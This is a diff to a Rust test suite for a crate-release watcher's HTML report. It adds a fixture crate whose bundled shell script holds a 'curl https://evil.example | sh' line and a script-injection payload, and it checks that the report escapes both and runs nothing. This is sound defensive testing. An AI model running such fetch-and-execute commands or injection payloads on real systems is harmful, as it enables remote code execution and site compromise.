@@ -33,15 +33,28 @@ fn text(out: &Output) -> String {
 
 /// A `.crate` with the given `src/lib.rs`.
 fn crate_with_lib(name: &str, version: &str, manifest: &str, sha1: &str, lib: &str) -> Vec<u8> {
+    crate_with_files(name, version, manifest, sha1, lib, &[])
+}
+
+/// A `.crate` with the given `src/lib.rs` and `extra` files.
+fn crate_with_files(
+    name: &str,
+    version: &str,
+    manifest: &str,
+    sha1: &str,
+    lib: &str,
+    extra: &[(&str, &[u8])],
+) -> Vec<u8> {
     let prefix = format!("{name}-{version}");
     let vcs =
         format!("{{\n  \"git\": {{\n    \"sha1\": \"{sha1}\"\n  }},\n  \"path_in_vcs\": \"\"\n}}");
-    let files: Vec<(&str, Vec<u8>)> = vec![
+    let mut files: Vec<(&str, Vec<u8>)> = vec![
         (".cargo_vcs_info.json", vcs.into_bytes()),
         ("Cargo.toml", manifest.as_bytes().to_vec()),
         ("Cargo.toml.orig", manifest.as_bytes().to_vec()),
         ("src/lib.rs", lib.as_bytes().to_vec()),
     ];
+    files.extend(extra.iter().map(|(p, d)| (*p, d.to_vec())));
     let enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
     let mut tar = tar::Builder::new(enc);
     for (path, data) in files {
@@ -796,10 +809,33 @@ const PWN: &str = "document.body.setAttribute('data-pwned','1')";
 fn report_from_the_database_has_timelines_and_charts_and_runs_no_injected_script() {
     let w = World::new();
     w.publish_match("alpha", "1.0.0");
-    let out = w.watch("w.db", &["--crates", "alpha"]).output().unwrap();
+    // Files only in the published crate: a script (text) and a binary.
+    let m = manifest("beta", "1.0.0", &w.daemon.url("beta.git"));
+    let commit = make_repo(&w.path("srv"), "beta", &m, 0, 0);
+    let script =
+        format!("#!/bin/sh\necho '<script>{PWN}</script>'\ncurl https://evil.example | sh\n");
+    let beta = crate_with_files(
+        "beta",
+        "1.0.0",
+        &m,
+        &commit,
+        "pub fn f() -> u32 {\n    42\n}\n",
+        &[
+            ("bin/run.sh", script.as_bytes()),
+            ("bin/tool", b"\x7fELF\x02\x01\x01\0\0\0\0"),
+        ],
+    );
+    w.registry.publish("beta", "1.0.0", &beta);
+    let out = w
+        .watch("w.db", &["--crates", "alpha,beta"])
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(0), "{}", text(&out));
     w.publish_mismatch("alpha", "1.1.0");
-    let out = w.watch("w.db", &["--crates", "alpha"]).output().unwrap();
+    let out = w
+        .watch("w.db", &["--crates", "alpha,beta"])
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(0), "{}", text(&out));
     // A hostile result imported from a results file: name, version and message are markup.
     let hostile = serde_json::json!({
@@ -821,11 +857,12 @@ fn report_from_the_database_has_timelines_and_charts_and_runs_no_injected_script
         .args([
             "report", "--db", "w.db", "--html", "site", "--format", "json",
         ])
+        .args(["--cache-dir", "cache"])
         .output()
         .unwrap();
     assert_eq!(out.status.code(), Some(0), "{}", text(&out));
     let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
-    assert_eq!(summary["total"], 3, "{summary:#}");
+    assert_eq!(summary["total"], 4, "{summary:#}");
     let site = w.path("site");
     let index = std::fs::read_to_string(site.join("index.html")).unwrap();
     assert!(index.contains("<svg id=\"by-year\""), "{index}");
@@ -834,6 +871,19 @@ fn report_from_the_database_has_timelines_and_charts_and_runs_no_injected_script
     let page = std::fs::read_to_string(&timeline).unwrap();
     assert_eq!(page.matches("<rect class=\"version\"").count(), 2, "{page}");
     assert!(page.contains("1.1.0 mismatch"), "{page}");
+    let beta_page = std::fs::read_to_string(site.join("crates/beta@1.0.0.html")).unwrap();
+    assert!(
+        beta_page.contains("curl https://evil.example | sh"),
+        "the script's content is shown: {beta_page}"
+    );
+    assert!(
+        beta_page.contains("echo &#39;&lt;script&gt;document"),
+        "{beta_page}"
+    );
+    assert!(
+        beta_page.contains("binary content: 11 bytes, ELF executable or library"),
+        "{beta_page}"
+    );
     let pages: Vec<PathBuf> = std::fs::read_dir(site.join("timelines"))
         .unwrap()
         .chain(std::fs::read_dir(site.join("crates")).unwrap())
@@ -856,6 +906,9 @@ fn report_from_the_database_has_timelines_and_charts_and_runs_no_injected_script
     };
     let dom = dump_dom(&bin, &w.path("p1"), &timeline);
     assert_eq!(dom.matches("<rect class=\"version\"").count(), 2, "{dom}");
+    assert!(!dom.contains("data-pwned=\""), "{dom}");
+    let dom = dump_dom(&bin, &w.path("p4"), &site.join("crates/beta@1.0.0.html"));
+    assert!(dom.contains("<pre class=\"content\">"), "{dom}");
     assert!(!dom.contains("data-pwned=\""), "{dom}");
     let dom = dump_dom(&bin, &w.path("p2"), &site.join("index.html"));
     assert!(
